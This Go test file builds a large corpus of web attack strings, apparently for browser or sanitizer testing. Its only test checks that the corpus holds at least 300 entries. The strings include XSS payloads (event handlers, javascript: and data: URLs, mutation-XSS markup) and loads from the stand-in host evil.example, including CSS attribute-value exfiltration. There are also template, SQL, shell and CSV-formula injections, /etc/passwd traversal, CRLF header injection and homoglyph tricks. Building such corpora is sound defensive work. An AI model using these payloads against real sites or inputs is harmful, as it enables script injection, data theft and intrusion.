package browsertest

import (
	"fmt"
	"slices"
	"testing"
)

// mark is in every payload that does something when it is obeyed.
const mark = "alert(1)"

// breakouts end whatever a careless page would put a text into.
var breakouts = []string{
	``, `">`, `'>`, `-->`, `]]>`, `</title>`, `</textarea>`, `</pre>`, `</code>`, `</mark>`, `</script>`, `</style>`, `</option></select>`,
	`</template>`, `</noscript>`, `</xmp>`, `</table>`, `</summary></details>`, `"/>`, "`>",
}

// elements do something by themselves.
var elements = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<iframe src=javascript:alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`, `<input autofocus onfocus=alert(1)>`, `<style>@import 'https://evil.example/x.css';</style>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`, `<base href=https://evil.example/>`,
}

// events are the attributes by which elements obey.
var events = map[string][]string{
	"body":     {"onload", "onpageshow", "onhashchange", "onresize", "onscroll", "onfocus"},
	"video":    {"onerror", "onloadstart", "oncanplay", "onplay"},
	"audio":    {"onerror", "onloadstart", "oncanplay"},
	"div":      {"onclick", "onmouseover", "onpointerenter", "onanimationstart", "ontransitionend", "onwheel", "oncopy", "onbeforeinput", "oncontentvisibilityautostatechange"},
	"button":   {"onclick", "onfocus", "onblur", "onpointerdown", "oncommand"},
	"marquee":  {"onstart", "onbounce", "onfinish"},
	"select":   {"onfocus", "onchange"},
	"form":     {"onsubmit", "onreset", "onformdata"},
	"svg":      {"onload", "onbegin", "onclick", "onmouseenter"},
	"img":      {"onload", "onerror", "onauxclick"},
	"details":  {"ontoggle", "onbeforetoggle"},
	"dialog":   {"oncancel", "onclose"},
	"textarea": {"onfocus", "oninput", "onselect"},
	"object":   {"onerror", "onload"},
	"embed":    {"onload"},
	"track":    {"oncuechange"},
	"a":        {"onmouseover", "onfocusin", "onkeydown"},
}

// singles are tricks of their own.
var singles = []string{
	// URLs that are programs.
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", ` javascript:alert(1)`,
	`javascript://example.com/%0aalert(1)`, `javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>`,
	`data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=alert(1)>`,
	`vbscript:msgbox(1)`, `view-source:javascript:alert(1)`, `blob:https://evil.example/alert(1)`, `feed:javascript:alert(1)`, `//evil.example/x`, `\\evil.example\x`,
	`https:evil.example`, `https://evil.example/"onmouseover="alert(1)`, `https://evil.example/' onmouseover='alert(1)`, `https://evil.example/><script>alert(1)</script>`,
	// Attributes of a careless page.
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `x onmouseover=alert(1) y`, `" autofocus onfocus="alert(1)`, `" style="background:url(https://evil.example/x)`,
	`" formaction="javascript:alert(1)`, `" srcdoc="<script>alert(1)</script>`, `" accesskey="x" onclick="alert(1)`, `"onpointerover=alert(1)//`, `' autofocus tabindex=1 onfocus=alert(1) '`,
	// Markup that parsers read differently.
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1)//<</script>`, `<script/x>alert(1)</script>`, `<script>alert(1)<!--`, `<img/src="x"/onerror=alert(1)>`,
	"<img\nsrc=x\nonerror=alert(1)>", "<img\x0bsrc=x onerror=alert(1)>", "<svg\x0conload=alert(1)>", `<a href="jav&#x61;script:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<select><template shadowrootmode=open><script>alert(1)</script></template></select>`, `<template><img src=x onerror=alert(1)></template>`, `<x contenteditable onblur=alert(1)>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`, `<svg><script href=data:,alert(1) />`,
	`<object data="javascript:alert(1)">`, `<embed src="javascript:alert(1)">`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, `<frameset onload=alert(1)>`, `<isindex action=javascript:alert(1) type=image>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<link rel=prefetch href=https://evil.example/x>`, `<link rel=dns-prefetch href=//evil.example>`, `<link rel=preload as=script href=https://evil.example/x.js>`, `<link rel=icon href=https://evil.example/x.ico>`,
	`<img src=https://evil.example/pixel>`, `<img srcset="https://evil.example/a 1x">`, `<picture><source srcset=https://evil.example/a><img></picture>`, `<video poster=https://evil.example/p>`, `<audio src=https://evil.example/a autoplay>`,
	`<input type=image src=https://evil.example/i>`, `<body background=https://evil.example/b>`, `<table background=https://evil.example/t>`, `<form action=https://evil.example/ ><button>Check</button></form>`,
	`<button form=x formaction=https://evil.example/>Check</button>`, `<input form=x name=domain value=evil.example>`, `<textarea form=x name=y>`, `<a href=https://evil.example/ target=_blank>click</a>`, `<a ping=https://evil.example/ href=#>x</a>`,
	`<style>*{background:url(https://evil.example/s)}</style>`, `<style>@font-face{font-family:x;src:url(https://evil.example/f)}body{font-family:x}</style>`, `<style>input[value^=a]{background:url(https://evil.example/a)}</style>`,
	`<script src=https://evil.example/x.js></script>`, `<script type=module>import('https://evil.example/x.js')</script>`, `<script type=importmap>{"imports":{"x":"https://evil.example/"}}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
	`<h1>Valid</h1>`, `<!-- hidden -->`, `<![CDATA[ alert(1) ]]>`, `<?xml version="1.0"?><x/>`, `<!DOCTYPE html><html>`, `<plaintext>`, `<xmp>`, `<listing>`, `<title>x`, `<br><hr><br>`, `<slot name=x>`, `<portal src=https://evil.example/>`, `<fencedframe>`,
	`<div id=main></div>`, `<form id=errors><input name=action>`, `<a id=domain name=domain>`, `<img name=cookie>`, `<div popover id=x>`, `<button popovertarget=main>`, `<dialog open>Your key has expired</dialog>`,
	// Template languages.
	`{{.}}`, `{{template "content" .}}`, `{{define "title"}}x{{end}}`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `#{alert(1)}`, `<%= alert(1) %>`, `{% raw %}`, `[[${alert(1)}]]`, `@(alert(1))`, `{{7*7}}`, `${{7*7}}`, `*{7*7}`, `{php}alert(1){/php}`,
	// Entities and escapes.
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;img src=x onerror=alert(1)&#x3e;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cscript\x3ealert(1)\x3c/script\x3e`,
	`&amp;lt;script&amp;gt;`, `&nbsp;&NewLine;&Tab;`, `&#0;`, `&#xD800;`, `&bogus;`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	// Characters that are not what they seem.
	"<script>alert(1)</script>\u202e", "\u202e\u202dtxt.exe", "\u2066<img src=x onerror=alert(1)>\u2069", "exam\u200bple.com", "exam\u00adple.com", "\u200f\u200e\u061c", "\ufeffexample.com", "\u2028alert(1)\u2029",
	"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02bcscript\u02bc", "\u00bcscript\u00be", "\U000e003cscript\U000e003e", "a\u0300\u0301\u0302\u0303\u0304\u0305", "p\u0430ypal.com", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\ufdfa\ufdfd", "\u0001\u001b[31mred\u001b[0m", "a\x00b", "\x7f\u0080\u009f",
	"\u115f\u3164\uffa0", "\u2800\u2800", "\U000e0100\ufe00", "Z\u0351\u036b\u0343\u036a\u0302A\u0310", "田中さん", "שלום <b>", "مرحبا <i>", "1\u20442", "ﬀ ﬁ", "İıŞş", "ß ẞ",
	// Words that programs trip over.
	`null`, `undefined`, `NaN`, `true`, `__proto__`, `constructor`, `toString`, `-1`, `1e999`, `0x41`, `'; DROP TABLE keys; --`, `" OR ""="`, `$(alert)`, "`id`", `| id`, `../../../../etc/passwd`, `%00`, `%0d%0aSet-Cookie: a=b`, "a\r\nX: y", `CON`, `=cmd|' /C calc'!A0`, `@SUM(1)`,
}

// payloads returns all of them, each once.
func payloads() []string {
	list := slices.Clone(singles)
	for i, b := range breakouts {
		for j, e := range elements {
			if (i+j)%2 == 0 {
				list = append(list, b+e)
			}
		}
	}
	for element, names := range events {
		for _, name := range names {
			list = append(list, fmt.Sprintf("<%s %s=%s>", element, name, mark), fmt.Sprintf(`"><%s/%s="%s"//`, element, name, mark))
		}
	}
	slices.Sort(list)
	return slices.Compact(list)
}

func TestPayloadsAreMany(t *testing.T) {
	t.Parallel()
	const least = 300
	n := len(payloads())
	if n < least {
		t.Errorf("there are %d payloads, and %d are wanted", n, least)
	}
}
